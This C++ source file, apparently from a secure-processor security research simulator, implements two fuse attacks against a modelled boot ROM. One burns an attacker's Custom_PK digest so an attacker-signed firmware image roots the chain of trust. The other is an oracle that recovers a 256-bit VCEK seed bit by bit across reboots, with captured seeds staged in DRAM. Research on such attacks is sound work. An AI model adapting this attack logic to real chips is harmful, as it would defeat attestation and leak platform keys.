// Copyright aspforge contributors.
// Licensed under the Apache License, Version 2.0, see LICENSE for details.
// SPDX-License-Identifier: Apache-2.0

#include "aspforge/attack/badfuse.hpp"

#include <cstring>
#include <memory>

#include "aspforge/attest/report.hpp"
#include "aspforge/boot/branch.hpp"
#include "aspforge/crypto/fletcher32.hpp"
#include "aspforge/crypto/secded.hpp"
#include "aspforge/crypto/sha384.hpp"

namespace aspforge::attack {

namespace {

// Burner dance from payload context: the write path the latch does not
// cover. Returns 0 ok, 1 write-protected, 2 bad sequence.
uint8_t payload_burn_bit(boot::PayloadContext& ctx, uint32_t bit_index) {
  // Shadow read; behind the latch this sees zeros, so the write is blind.
  auto shadow = ctx.mmio_read(fuse::kRegionBase + (bit_index / 32) * 4);
  if (shadow && (*shadow & (1u << (bit_index % 32)))) return 0;

  auto status = ctx.mmio_read(fuse::kBurnerStatus);
  if (status && (*status & fuse::kStatusBusy)) return 2;

  ctx.mmio_write(fuse::kBurnerControl, fuse::kBurnerArmWord);
  ctx.mmio_write(fuse::kBurnerAddrSelect, fuse::kTriggerBit | bit_index);

  status = ctx.mmio_read(fuse::kBurnerStatus);
  if (status && (*status & fuse::kStatusRejectedWp)) return 1;
  if (status && (*status & fuse::kStatusBadSequence)) return 2;
  return 0;
}

void exfil_to_dram(boot::PayloadContext& ctx, uint8_t burn_status) {
  Bytes record;
  append(record, as_view(ctx.layer1_seed()));
  record.push_back(ctx.rollback_seed() ? 1 : 0);
  if (ctx.rollback_seed())
    append(record, as_view(*ctx.rollback_seed()));
  else
    record.insert(record.end(), 32, 0);
  append(record, as_view(ctx.cek_keypair().public_point));
  record.push_back(burn_status);
  ctx.write_dram_out(as_view(record));
}

std::vector<uint32_t> field_set_bits(const fuse::Field& field, BytesView data) {
  std::vector<uint32_t> bits;
  for (size_t i = 0; i < data.size(); ++i)
    for (int j = 0; j < 8; ++j)
      if (data[i] & (1u << j)) bits.push_back((field.offset + i) * 8 + j);
  return bits;
}

// Every bit of the Custom_PK takeover: digest, per-byte SEC-DED check bits,
// Fletcher-32 words, and the three replicas of both enable flags.
std::vector<uint32_t> custom_pk_burn_plan(const std::array<uint8_t, 48>& digest) {
  std::vector<uint32_t> bits = field_set_bits(fuse::kCustomPkDigest, as_view(digest));

  Bytes ecc(fuse::kCustomPkEcc.size, 0);
  for (size_t i = 0; i < digest.size(); ++i) {
    auto w = crypto::secded_encode(digest[i]);
    for (int j = 0; j < 5; ++j) {
      if (w.check & (1u << j)) {
        size_t pos = 5 * i + j;
        ecc[pos / 8] |= static_cast<uint8_t>(1u << (pos % 8));
      }
    }
  }
  for (uint32_t b : field_set_bits(fuse::kCustomPkEcc, as_view(ecc))) bits.push_back(b);

  Bytes sum;
  append_u32le(sum, crypto::fletcher32(as_view(digest)));
  for (uint32_t b : field_set_bits(fuse::kCustomPkFletcher, as_view(sum))) bits.push_back(b);

  for (auto flag : {fuse::MetaFlag::CustomPkEccEnable, fuse::MetaFlag::CustomPkFletcherEnable})
    for (const auto& r : fuse::meta_flag_replicas(flag))
      bits.push_back(r.byte * 8 + r.bit);
  return bits;
}

}  // namespace

const char* to_string(AttackError e) {
  switch (e) {
    case AttackError::None: return "none";
    case AttackError::SearchBudget: return "search_budget_exceeded";
    case AttackError::NoCodeExec: return "no_code_exec";
    case AttackError::WriteProtected: return "WriteProtected";
    case AttackError::FuseAbort: return "FuseAbort";
    case AttackError::ExfilMissing: return "exfil_missing";
  }
  return "?";
}

std::optional<ExfilRecord> ExfilRecord::parse(BytesView dram) {
  constexpr size_t kLen = 32 + 1 + 32 + 97 + 1;
  if (dram.size() < kLen) return std::nullopt;
  ExfilRecord r;
  std::memcpy(r.layer1.data(), dram.data(), 32);
  if (dram[32]) {
    attest::Seed32 rb{};
    std::memcpy(rb.data(), dram.data() + 33, 32);
    r.rollback = rb;
  }
  r.cek_public.assign(dram.begin() + 65, dram.begin() + 65 + 97);
  r.burn_status = dram[162];
  return r;
}

boot::PayloadFn make_exfil_payload() {
  return [](boot::PayloadContext& ctx) { exfil_to_dram(ctx, 0); };
}

fw::FlashImage build_attacker_flash(const crypto::RsaKeyPair& attacker_keypair,
                                    fw::AuthScheme scheme, uint8_t svn,
                                    uint32_t payload_id) {
  constexpr uint32_t kLoadAddr = 0x1000;
  Bytes body;
  append_u32le(body, *boot::encode_branch(kLoadAddr, kLoadAddr + 8));
  append_u32le(body, 0);
  append(body, as_view(fw::make_payload_descriptor(payload_id, {})));

  fw::FirmwareModule m;
  m.svn = svn;
  m.load_addr = kLoadAddr;
  m.image_size = static_cast<uint32_t>(body.size());
  m.signed_size = m.image_size;
  m.body = std::move(body);
  m = fw::sign_module(std::move(m), attacker_keypair, scheme);

  fw::FlashImageBuilder builder;
  builder.add(fw::EntryType::PrimaryBl, as_view(m.to_bytes()));
  return builder.build();
}

Attack1Result badfuse_custom_pk(fuse::FuseArray& fuses,
                                const fw::FlashImage& legacy_flash,
                                const boot::BootRomConfig& config,
                                const crypto::RsaKeyPair& attacker_keypair,
                                unsigned match_bits, uint64_t rng_seed) {
  Attack1Result result;

  auto digest = crypto::sha384(as_view(attacker_keypair.public_encoding()));
  auto plan = custom_pk_burn_plan(digest);

  boot::PayloadRegistry hooks;
  hooks[kCustomPkBurnPayloadId] = [&plan](boot::PayloadContext& ctx) {
    uint8_t status = 0;
    for (uint32_t bit : plan) {
      status = payload_burn_bit(ctx, bit);
      if (status != 0) break;
    }
    exfil_to_dram(ctx, status);
  };

  auto run = run_milanlaunchy(fuses, legacy_flash, config, match_bits, rng_seed,
                              kCustomPkBurnPayloadId, hooks);
  nlohmann::json steps = nlohmann::json::array();
  steps.push_back(run.transcript);

  if (!run.success) {
    result.error = run.trials ? AttackError::NoCodeExec : AttackError::SearchBudget;
    if (run.failure == "collision search budget exceeded")
      result.error = AttackError::SearchBudget;
    result.transcript = {{"attack", "badfuse_custom_pk"}, {"steps", steps}};
    return result;
  }

  auto exfil = ExfilRecord::parse(as_view(run.outcome.dram_out));
  if (!exfil) {
    result.error = AttackError::ExfilMissing;
    result.transcript = {{"attack", "badfuse_custom_pk"}, {"steps", steps}};
    return result;
  }
  if (exfil->burn_status == 1) {
    result.error = AttackError::WriteProtected;
    result.transcript = {{"attack", "badfuse_custom_pk"},
                         {"steps", steps},
                         {"failure", "fuse burner rejected the Custom_PK burn"}};
    return result;
  }

  // Host side: swap in the attacker-signed SVN-255 plaintext image and
  // power-cycle. The freshly burned Custom_PK digest now roots the chain.
  fuses.cold_power_cycle();
  auto attacker_flash =
      build_attacker_flash(attacker_keypair, config.arch_scheme, 255, kExfilPayloadId);

  boot::PayloadRegistry exfil_hooks;
  exfil_hooks[kExfilPayloadId] = make_exfil_payload();
  auto outcome = boot::boot(fuses, attacker_flash, config, exfil_hooks);
  steps.push_back(outcome.to_json());

  if (outcome.stage == boot::BootStage::FuseAbort) {
    result.error = AttackError::FuseAbort;
    result.transcript = {{"attack", "badfuse_custom_pk"}, {"steps", steps}};
    return result;
  }
  auto exfil2 = ExfilRecord::parse(as_view(outcome.dram_out));
  if (!outcome.code_exec_event || !exfil2 || !exfil2->rollback) {
    result.error = AttackError::NoCodeExec;
    result.transcript = {{"attack", "badfuse_custom_pk"}, {"steps", steps}};
    return result;
  }

  result.layer1_at_255 = exfil2->layer1;
  result.rollback_at_255 = *exfil2->rollback;
  result.chip_id = attest::chip_id_from_cek(as_view(exfil2->cek_public));
  result.transcript = {{"attack", "badfuse_custom_pk"},
                       {"custom_pk_digest", to_hex(as_view(digest))},
                       {"burned_bits", plan.size()},
                       {"steps", steps},
                       {"layer1_at_255", to_hex(as_view(result.layer1_at_255))},
                       {"rollback_at_255", to_hex(as_view(result.rollback_at_255))},
                       {"chip_id", to_hex(as_view(result.chip_id))}};
  return result;
}

OracleResult badfuse_oracle(fuse::FuseArray& fuses, const fw::FlashImage& legacy_flash,
                            const boot::BootRomConfig& config, unsigned match_bits,
                            uint64_t rng_seed) {
  OracleResult result;

  // The probe payload burns one designated seed bit per boot; the driver
  // advances the target between power cycles.
  auto next_bit = std::make_shared<int32_t>(0);
  boot::PayloadRegistry hooks;
  hooks[kOraclePayloadId] = [next_bit](boot::PayloadContext& ctx) {
    uint8_t status = 0;
    if (*next_bit >= 0 && *next_bit < 256) {
      uint32_t global_bit = fuse::kVcekSeed.offset * 8 + static_cast<uint32_t>(*next_bit);
      status = payload_burn_bit(ctx, global_bit);
    }
    exfil_to_dram(ctx, status);
  };

  auto run = run_milanlaunchy(fuses, legacy_flash, config, match_bits, rng_seed,
                              kOraclePayloadId, hooks);
  if (!run.success) {
    result.error = run.failure == "collision search budget exceeded"
                       ? AttackError::SearchBudget
                       : AttackError::NoCodeExec;
    if (run.outcome.stage == boot::BootStage::FuseAbort)
      result.error = AttackError::FuseAbort;
    result.transcript = {{"attack", "badfuse_oracle"}, {"milanlaunchy", run.transcript}};
    return result;
  }

  auto baseline_rec = ExfilRecord::parse(as_view(run.outcome.dram_out));
  if (!baseline_rec) {
    result.error = AttackError::ExfilMissing;
    return result;
  }
  if (baseline_rec->burn_status == 1) {
    result.error = AttackError::WriteProtected;
    result.transcript = {{"attack", "badfuse_oracle"},
                         {"failure", "fuse burner rejected the probe burn"}};
    return result;
  }
  result.chip_id = attest::chip_id_from_cek(as_view(baseline_rec->cek_public));

  attest::Seed32 v_base = baseline_rec->layer1;
  std::array<uint8_t, 256> recovered_bits{};
  nlohmann::json decisions = nlohmann::json::array();

  for (int i = 0; i < 256; ++i) {
    *next_bit = i + 1;  // probe burned during the observation boot
    fuses.cold_power_cycle();
    ++result.reboots;
    auto outcome = boot::boot(fuses, run.image, config, hooks);
    if (outcome.stage == boot::BootStage::FuseAbort) {
      result.error = AttackError::FuseAbort;
      result.transcript = {{"attack", "badfuse_oracle"},
                           {"failure", "redundancy validation aborted the boot"},
                           {"probed_bits", i},
                           {"reboots", result.reboots}};
      return result;
    }
    auto rec = ExfilRecord::parse(as_view(outcome.dram_out));
    if (!rec) {
      result.error = AttackError::ExfilMissing;
      return result;
    }
    if (rec->burn_status == 1) {
      result.error = AttackError::WriteProtected;
      return result;
    }

    if (rec->layer1 != v_base) {
      recovered_bits[i] = 0;  // fuse was intact (0)
      v_base = rec->layer1;
      ++result.baseline_updates;
    } else {
      recovered_bits[i] = 1;  // fuse already blown (1)
    }
    decisions.push_back(static_cast<int>(recovered_bits[i]));
  }

  for (int i = 0; i < 256; ++i)
    if (recovered_bits[i]) result.recovered[i / 8] |= static_cast<uint8_t>(1u << (i % 8));

  result.transcript = {{"attack", "badfuse_oracle"},
                       {"match_bits", match_bits},
                       {"rng_seed", rng_seed},
                       {"milanlaunchy_trials", run.trials},
                       {"reboots", result.reboots},
                       {"baseline_updates", result.baseline_updates},
                       {"bit_decisions", decisions},
                       {"recovered_seed", to_hex(as_view(result.recovered))},
                       {"chip_id", to_hex(as_view(result.chip_id))}};
  return result;
}

}  // namespace aspforge::attack
